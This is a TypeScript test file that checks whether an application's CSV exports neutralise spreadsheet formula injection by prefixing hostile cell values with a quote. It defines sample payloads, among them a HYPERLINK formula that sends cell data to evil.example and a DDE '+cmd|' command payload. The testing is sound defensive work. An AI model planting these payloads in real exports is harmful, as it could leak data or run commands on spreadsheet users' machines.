import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { createTestDatabase, type TestDatabase } from '../../testing/db';
import { actorWith } from '../../testing/actors';
import { ANONYMOUS } from '../../policy/actor';
import type { Context } from '../../context';
import { translator } from '../../../i18n/index';
import { insertOrganisation } from '../../organisations/repository';
import { createService, createStructure } from '../service';
import { createNode } from '../referential';
import { matrixCsv, whoDoesWhat } from '../matrix';
import { exportToString } from './export';

/**
 * CSV formula injection: names that a spreadsheet would run (=HYPERLINK, +cmd|, @SUM, -2+3…) come out of every
 * CSV export — services.csv and structures.csv (API and `maillage export`), the who-does-what matrix — with a
 * leading quote, so Excel and LibreOffice show them as text.
 */
const HOSTILE = {
	hyperlink: '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez ici")',
	dde: "+cmd|' /C calc'!A0",
	sum: '@SUM(1+1)*cmd|x',
	minus: '-2+3+cmd|x'
};

let t: TestDatabase;
const admin = (): Context => ({ db: t.db, actor: actorWith([], { instanceAdmin: true }) });
let organisationId: string;

beforeAll(async () => {
	t = await createTestDatabase();
	await t.db.execute(
		sql`insert into users (id, email, display_name) values ('00000000-0000-4000-8000-000000000001', 'agent@example.fr', 'Agent de test')`
	);
	organisationId = (
		await insertOrganisation(t.db, {
			name: HOSTILE.minus,
			slug: 'hostile',
			kind: 'association',
			territoryType: 'commune',
			territoryCode: '46042'
		})
	).id;
	const structure = await createStructure(admin(), {
		name: HOSTILE.dde,
		description: '@description',
		organisationId,
		communeCode: '46042',
		longitude: 1.4417,
		latitude: 44.4475,
		networks: []
	});
	for (const name of [HOSTILE.hyperlink, HOSTILE.sum, 'Épicerie solidaire'])
		await createService(admin(), {
			structureId: structure.id,
			name,
			description: '=1+1 dans la description',
			thematiques: ['equipement-et-alimentation--alimentation'],
			publics: [],
			receptionModes: [],
			eligibilityZone: [],
			mobilisationModes: [],
			mobilisableBy: [],
			languages: [],
			outreach: false,
			communeCode: '46042',
			latitude: 44.4475,
			longitude: 1.4417
		});
	const politique = await createNode(admin(), { departementCode: '46', name: '=Politique', description: '' });
	await createNode(admin(), {
		departementCode: '46',
		parentId: politique.id,
		name: 'Mission',
		description: ''
	});
});
afterAll(() => t.drop());

const cells = (csv: string, delimiter = ',') => (parse(csv, { delimiter, bom: true }) as string[][]).flat();

/** No cell starts a formula; each hostile value is there, as text behind a quote. */
function expectNeutralised(all: string[], hostile: string[]) {
	const formulas = all.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+([.,]\d+)?$/.test(c));
	expect(formulas).toEqual([]);
	for (const value of hostile) expect(all).toContain(`'${value}`);
}

describe('CSV exports neutralise formulas', () => {
	it('services.csv (API and maillage export)', async () => {
		const all = cells(await exportToString(admin(), 'di-csv-services'));
		expectNeutralised(all, [HOSTILE.hyperlink, HOSTILE.sum, '=1+1 dans la description']);
		expect(all).toContain('Épicerie solidaire');
		expect(all).toContain('1.4417'); // numbers stay numbers
	});

	it('structures.csv (API and maillage export)', async () => {
		const all = cells(await exportToString(admin(), 'di-csv-structures'));
		expectNeutralised(all, [HOSTILE.dde, '@description']);
	});

	it('matrix.csv: organisation columns, mission rows and service names', async () => {
		const t2 = translator('fr');
		const anonymous: Context = { db: t.db, actor: ANONYMOUS };
		const territory = { type: 'departement' as const, code: '46' };
		const byCategory = await whoDoesWhat(anonymous, { territory, rows: 'categories' }, t2);
		const csv = matrixCsv(byCategory, 'Catégorie');
		expect(csv.charCodeAt(0)).toBe(0xfeff);
		const all = cells(csv, ';');
		expectNeutralised(all, [HOSTILE.minus]);
		// the cell of the two services starts with the first name, neutralised as a whole
		expect(all.some((c) => c.startsWith(`'${HOSTILE.hyperlink}`) || c.startsWith(`'${HOSTILE.sum}`))).toBe(
			true
		);
		const byMission = await whoDoesWhat(anonymous, { territory, rows: 'missions' }, t2);
		expectNeutralised(cells(matrixCsv(byMission, '=Missions'), ';'), ['=Politique › Mission', '=Missions']);
	});
});
